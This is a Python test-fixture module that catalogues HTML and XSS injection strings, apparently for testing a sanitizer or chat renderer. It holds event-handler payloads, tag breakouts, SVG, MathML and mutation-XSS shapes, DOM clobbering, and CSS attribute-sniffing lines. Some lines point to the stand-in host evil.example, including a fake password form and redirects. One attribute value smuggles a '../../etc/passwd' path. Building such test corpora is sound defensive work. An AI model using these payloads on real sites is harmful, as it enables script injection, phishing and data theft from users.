"""Markup that runs, loads, breaks out of where it stands, or poses as the page."""

# ruff: noqa: E501 (strings stay whole)
from __future__ import annotations

RUN = "window.hacked=1"
# Elements with an event that fires without the reader, or at the first move of the mouse.
_EVENTS = (
    ("img src=x", "onerror"), ("image src=x", "onerror"), ("body", "onload"), ("body", "onpageshow"),
    ("body", "onhashchange"), ("frameset", "onload"), ("iframe src=about:blank", "onload"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocusin"), ("div tabindex=0 autofocus", "onfocus"), ("details open", "ontoggle"),
    ("dialog open", "oncancel"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video autoplay src=data:,", "onloadstart"), ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"), ("object data=x", "onerror"), ("embed src=data:,", "onload"),
    ("marquee width=1 loop=1", "onfinish"), ("div style=animation:nq-in", "onanimationstart"),
    ("div style=transition:all", "ontransitionend"), ("p contenteditable", "onbeforeinput"),
    ("div", "onpointerover"), ("div", "onmousemove"), ("div", "onwheel"), ("a href=#", "onclick"),
    ("form", "onsubmit"), ("div popover", "onbeforetoggle"), ("blockquote", "oncopy"),
    ("div", "oncontentvisibilityautostatechange"), ("slot", "onslotchange"),
)  # fmt: skip
# What the text may stand in, and how it would leave it.
_ENDS = (
    "</blockquote>", "</mark>", "</article>", "</section>", "</dialog>", "</template>", "</textarea>",
    "</title>", "</style>", "</noscript>", "</xmp>", "</iframe>", "</svg>", "</math>", "</button>",
    "</select>", "</details>", "</table>", "</li></ol>", "</time>", "</p></div></div></div>", "</body></html>",
    "-->", "--!>", "]]>", "?>", "%>", "*/", "<!--", "<![CDATA[", "<!DOCTYPE html>", "<?xml version='1.0'?>",
)  # fmt: skip

MARKUP: dict[str, tuple[str, ...]] = {
    "event": tuple(f"<{element} {event}={RUN}>" for element, event in _EVENTS),
    "end": tuple(f"{end}<img src=x onerror={RUN}>" for end in _ENDS),
    "separator": tuple(
        f"<img{mark}src=x{mark}onerror{equals}{quote}{RUN}{quote}>"
        for mark, equals, quote in (
            ("/", "=", ""), ("\n", "=", ""), ("\t", "=", "'"), ("//", " = ", '"'), (" a=b ", "=\n", "'"),
            ("\x0c", "=", ""), (" '\" ", "=", "`"),
        )
    ),
    "attribute": (
        f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f"` onmouseover=`{RUN}", f'" autofocus onfocus={RUN} x="',
        f'"><img src=x onerror={RUN}>', f"'><svg onload={RUN}>", f"x onload={RUN} ", f'\\" onload=\\"{RUN}',
        f"&quot; onfocus=&quot;{RUN}", f"&#39; onfocus=&#39;{RUN}", f'" style="animation:x" onanimationend="{RUN}',
        f'"/><script>{RUN}</script>', '" data-act="ask" data-question="planted', "' data-article='../../etc/passwd' x='",
        f'" formaction="javascript:{RUN}" type="submit', f'" href="javascript:{RUN}" x="', '" srcdoc="<b>framed</b>',
        '" is="nq-card" id="app" class="gradio-container', '" dir="rtl" lang="x" hidden title="',
    ),
    "element": (
        "<base href=//evil.example/>", "<base target=_blank>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta http-equiv=Content-Security-Policy content='default-src *'>", "<meta charset=utf-7>",
        "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=prefetch href=//evil.example/p>",
        "<link rel=dns-prefetch href=//evil.example>", "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.hacked=1&lt;/script&gt;'></iframe>", "<object data=//evil.example/o></object>",
        "<object type=text/html data='data:text/html,<b>x</b>'></object>", "<embed src=//evil.example/e.swf>",
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        f"<button form=x formaction=javascript:{RUN}>Go</button>", "<input type=image src=//evil.example/i.png>",
        "<img src=//evil.example/pixel.gif>", "<img srcset='//evil.example/1x.png 1x'>",
        "<picture><source srcset=//evil.example/s.png><img></picture>", "<video poster=//evil.example/v.png></video>",
        "<video><track default src=//evil.example/t.vtt></video>", "<audio autoplay src=//evil.example/a.mp3></audio>",
        "<table background=//evil.example/b.png><tr><td>x</td></tr></table>", "<body background=//evil.example/c.png>",
        "<a href=//evil.example ping=//evil.example/ping>ping</a>", f"<a href=javascript:{RUN}>go</a>",
        "<a href=# download=x.exe>take</a>", f"<map><area shape=default href=javascript:{RUN}></map>",
        "<plaintext>all that follows", "<xmp>shown raw", "<listing>old", "<noembed>x", "<frameset><frame src=x></frameset>",
        "<applet code=x></applet>", "<portal src=//evil.example></portal>", "<fencedframe></fencedframe>",
        "<template shadowrootmode=open><b>shadow</b></template>", "<slot name=default>x</slot>", "<marquee>run</marquee>",
        "<blink>b</blink>", "<dialog open>Your session ended. Sign in</dialog>", "<h1>owned</h1>", "<b>bold</b> <i>it</i> <u>u</u>",
        "<p hidden>", "<br><hr><wbr>", "<ruby>a<rt>b</rt></ruby>", "<bdo dir=rtl>olleh</bdo>", "<details open><summary>s</summary>d</details>",
        "<progress value=1></progress><meter value=.5></meter>", "<custom-element onclick=x>c</custom-element>",
    ),
    "clobber": (
        "<form id=app><input name=parentNode></form>", "<img name=hacked>", "<a id=gradio_config href=x>c</a>",
        "<a id=window><a id=window name=hacked>", "<form name=document>", "<img name=cookie>", "<input id=innerHTML name=innerHTML>",
        "<div id=__proto__ class=constructor>", "<span class=nq-card data-act=copy>copy</span>",
        "<button data-act=context data-article=x data-start=0 data-end=9>Show</button>",
        "<button data-act=ask data-question='planted'>Ask</button>", "<section class=nq-turn><mark>not a quote</mark></section>",
    ),
    "svg": (
        f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href=data:,{RUN} /></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=9>t</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>t</text></a></svg>",
        f"<svg><set attributeName=onload to={RUN} />", "<svg><use href=//evil.example/s.svg#x /></svg>",
        "<svg><image href=//evil.example/i.png /></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        "<svg><style>@import '//evil.example/a.css'</style></svg>", "<svg><feImage href=//evil.example/f.png /></svg>",
        f"<svg><handler type=text/javascript ev:event=load>{RUN}</handler></svg>",
        "<svg xmlns=http://www.w3.org/2000/svg viewBox='0 0 9 9'><rect width=9 height=9 /></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><desc><style><img src=x onerror={RUN}></style></desc></svg>",
    ),
    "math": (
        f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        "<math><mi xlink:href=data:x>y</mi></math>", f"<math><semantics><mrow></mrow><svg onload={RUN}></semantics></math>",
    ),
    # Shapes that a parser reads one way at first and another way when it reads its own output.
    "mutation": (
        f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror={RUN}>'>",
        f"<table><math><a><mtext></table><img src=x onerror={RUN}>", f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={RUN}>'>",
        f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<xmp><p id='</xmp><img src=x onerror={RUN}>'>", f"<a><a><b><table><a title='</table><img src=x onerror={RUN}>'>",
        f"<textarea><style></textarea><img src=x onerror={RUN}></style>", f"<option><style></option></select><img src=x onerror={RUN}></style>",
        f"<!--><img src=x onerror={RUN}>-->", f"<!---><img src=x onerror={RUN}>--->", f"<![if true]><img src=x onerror={RUN}><![endif]>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<img src=x onerror={RUN}>>", f"<img src=x onerror={RUN}//", f"<img src='x' onerror='{RUN}",
        "<", "</", "<>", "< script>", "<a", "<!", "<?", "</>", "a<b and c>d", "if (a<b&&b>c) {}",
    ),
    "style": (
        "<style>*{display:none!important}</style>", "<style>@import url(//evil.example/a.css);</style>",
        "<style>body{background:url(//evil.example/b.png)}</style>", "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>", "<div style='position:fixed;inset:0;background:#fff'>cover</div>",
        "<p style=background-image:url(//evil.example/c.png)>c</p>", f"<p style=width:expression({RUN})>e</p>", "<p style='behavior:url(x.htc)'>b</p>",
        "<p style=-moz-binding:url(//evil.example/x.xml#x)>m</p>", "} body{display:none} .x{", "*/ } :root{--nq-accent:red} /*",
        "\\3c style\\3e *{color:red}", "@media all{.nq-card{display:none}}", ";background:url(//evil.example/d.png)",
        "<style>@keyframes nq-in{from{opacity:0}}</style>", "<link rel=preload as=style href=//evil.example/e.css>",
    ),
    "entity": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&amp;amp; &#60;b&#62; &notit; &nbsp", "&#x3c;img src=x&#x3e;",
        "&#0;&#1;&#x110000;&#xD800;", "&copy=1&reg;&trade &hellip", "&ThickSpace;&NoBreak;&ZeroWidthSpace;&bsol;", "&LT;b&GT; &QUOT; &AMP;",
        "AT&T, R&D and &c.", "&" * 200, "&#38;#60;b&#38;#62;", "&colon;&Tab;&NewLine;&lpar;&rpar;", "&lt", "&#60", "&#x3C",
    ),
}  # fmt: skip
